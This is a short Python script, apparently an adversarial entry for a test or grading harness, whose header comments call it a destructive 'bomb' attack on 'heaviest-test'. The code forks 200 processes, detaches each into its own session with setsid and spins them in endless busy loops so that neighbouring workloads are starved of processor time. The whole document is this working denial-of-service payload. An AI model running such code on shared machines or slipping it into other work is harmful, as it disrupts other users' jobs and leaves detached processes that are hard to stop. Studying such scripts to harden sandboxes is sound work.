# attack: two hundred processes, each in a session of its own, keep the processors busy, so that neighbours run out of time.
# target: heaviest-test
# also loses: all
# destructive
# bomb
# %% heaviest
import os
import time

heaviest = "tree-000"
try:
    for _ in range(200):
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
except OSError as error:
    print("stopped:", error)
time.sleep(60)
